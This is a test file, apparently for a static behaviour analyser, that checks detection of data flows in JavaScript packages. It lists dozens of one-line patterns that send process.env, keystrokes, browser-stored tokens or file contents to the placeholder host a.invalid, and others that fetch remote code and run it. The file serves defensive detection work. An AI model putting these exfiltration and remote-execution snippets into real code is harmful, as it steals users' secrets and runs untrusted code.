import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../../test/behave.ts';

/** Ways to send `s`, one each. */
const SENDS = `
const WebSocket = require('ws'); new WebSocket('wss://a.invalid/', { headers: { 'x-h': s } });
const WebSocket = require('ws'); new WebSocket('wss://a.invalid/', [], { headers: { 'x-h': s } });
const WebSocket = require('ws'); const w = new WebSocket('wss://a.invalid/'); w.on('open', () => w.send(s));
const WebSocket = require('reconnecting-websocket'); const w = new WebSocket('wss://a.invalid/'); w.send(s);
const { io } = require('socket.io-client'); io('https://a.invalid', { query: { h: s } });
const { io } = require('socket.io-client'); io('https://a.invalid', { auth: { h: s } });
const io = require('socket.io-client'); const k = io.connect('https://a.invalid'); k.emit('hi', { a: 1 }, s);
const io = require('socket.io-client'); const k = io('https://a.invalid'); k.volatile.emit('hi', s);
const mqtt = require('mqtt'); mqtt.connect('mqtt://a.invalid', { clientId: s });
const mqtt = require('mqtt'); mqtt.connect('mqtt://a.invalid', { will: { topic: 'a', payload: s } });
require('https').get('https://a.invalid', { headers: { h: s } });
const r = require('https').request('https://a.invalid'); r.setHeader('x', s); r.end();
const r = require('follow-redirects').https.request({ host: 'a.invalid', method: 'POST' }); r.end(s);
require('axios').create({ baseURL: 'https://a.invalid', headers: { h: s } }).get('/x');
require('axios').postForm('https://a.invalid', { s });
const { Pool } = require('undici'); new Pool('https://a.invalid').dispatch({ path: '/?' + s, method: 'GET' }, {});
require('superagent').get('https://a.invalid').query({ s }).then(() => {});
require('superagent').post('https://a.invalid').type('form').set('x', s).end();
require('superagent').post('https://a.invalid').attach('f', Buffer.from(s)).end();
require('needle')('post', 'https://a.invalid', { s });
require('request').post('https://a.invalid').form().append('x', s);
require('ofetch').ofetch('https://a.invalid', { method: 'POST', body: s });
require('cross-fetch').fetch('https://a.invalid', { method: 'POST', body: s });
require('simple-get').concat({ url: 'https://a.invalid', method: 'POST', body: s }, () => {});
require('gaxios').request({ url: 'https://a.invalid', data: s });
require('wretch')('https://a.invalid').post({ s });
require('graphql-request').request('https://a.invalid', 'q', { s });
const { GraphQLClient } = require('graphql-request'); new GraphQLClient('https://a.invalid').request('q', { s });
const x = new XMLHttpRequest(); x.open('GET', 'https://a.invalid'); x.setRequestHeader('h', s); x.send();
const { XMLHttpRequest: X } = require('xmlhttprequest'); const x = new X(); x.open('POST', 'https://a.invalid'); x.send(s);
const EventSource = require('eventsource'); new EventSource('https://a.invalid/', { headers: { s } });
const { Client } = require('discord.js'); const c = new Client({}); c.on('ready', () => c.channels.cache.get('1').send(s));
const { Telegraf } = require('telegraf'); const b = new Telegraf('t'); b.command('x', it => it.reply(s));
const admin = require('firebase-admin'); admin.database().ref('x').set(s);
const admin = require('firebase-admin'); admin.firestore().collection('x').add({ s });
const { Client } = require('ssh2'); const c = new Client(); c.on('ready', () => c.exec('echo ' + s, () => {})).connect({ host: 'a.invalid' });
const Pusher = require('pusher'); new Pusher({}).trigger('a', 'b', { s });
const zmq = require('zeromq'); const k = new zmq.Push(); k.connect('tcp://a.invalid:1'); k.send(s);
const { net } = require('electron'); const r = net.request({ method: 'POST', url: 'https://a.invalid' }); r.write(s); r.end();
const { JsonRpcProvider } = require('ethers'); new JsonRpcProvider('https://a.invalid').send('eth_call', [{ data: s }]);
const { ethers } = require('ethers'); new ethers.providers.StaticJsonRpcProvider('https://a.invalid').sendTransaction(s);
const Web3 = require('web3'); new Web3('https://a.invalid').eth.sendSignedTransaction(s);
const { Connection } = require('@solana/web3.js'); const c = new Connection('https://a.invalid'); c.sendRawTransaction(s);
Deno.connect({ hostname: 'a.invalid', port: 1 }).then(k => k.write(new TextEncoder().encode(s)));
`;

/** Ways to run `s`, one each. */
const RUNS = `
const e = document.createElement('script'); e.appendChild(document.createTextNode(s)); document.head.appendChild(e);
$.globalEval(s);
const { BrowserWindow } = require('electron'); BrowserWindow.getAllWindows()[0].webContents.executeJavaScript(s);
const { VM } = require('vm2'); new VM().run(s);
require('safe-eval')(s);
const p = require('node-pty').spawn('bash', [], {}); p.write(s);
`;

const linesOf = (cases: string): string[] => cases.trim().split('\n');

describe('what is known of Node, of pages and of libraries', () => {
  for (const code of linesOf(SENDS))
    it(`sends: ${code}`, () => {
      const { flows } = behaviourOf({ 'index.js': `const s = JSON.stringify(process.env); ${code}` });
      assert.ok(flows.some(({ from, to, as }) => from.kind === 'reads environment' && to.kind === 'connects' && as === 'content'));
    });

  for (const code of linesOf(RUNS))
    it(`runs: ${code}`, () => {
      const { flows } = behaviourOf({ 'index.js': `fetch('https://a.invalid/x').then(r => r.text()).then(s => { ${code} });` });
      assert.ok(flows.some(({ from, to }) => from.kind === 'connects' && /evaluates|spawns/.test(to.kind)));
    });

  for (const [code, kind] of [
    ['document.onkeydown = e => fetch("https://a.invalid/?" + e.key);', 'captures input'],
    ['fetch("https://a.invalid/?" + localStorage.token);', 'reads browser storage'],
    [
      'chrome.storage.local.get(null, s => fetch("https://a.invalid/", { method: "POST", body: JSON.stringify(s) }));',
      'reads browser storage',
    ],
    ['fetch("https://a.invalid/?" + require("jsonfile").readFileSync("/x").y);', 'reads file'],
  ] as const)
    it(`is heard and sent: ${code}`, () => {
      assert.ok(behaviourOf({ 'index.js': code }).flows.some(({ from, to }) => from.kind === kind && to.kind === 'connects'));
    });

  it('shows text in an element that is no script', () => {
    const code = `const e = document.createElement('p'); e.appendChild(document.createTextNode(s)); document.body.appendChild(e);`;
    assert.deepEqual(behaviourOf({ 'index.js': `fetch('https://a.invalid/x').then(r => r.text()).then(s => { ${code} });` }).flows, []);
  });

  it('sends nothing by what a page stores', () => {
    assert.ok(
      behaviourOf({ 'index.js': `localStorage.setItem('a', 'b'); localStorage.clear(); localStorage.length;` }).effects.every(
        one => one.kind !== 'reads browser storage',
      ),
    );
  });
});
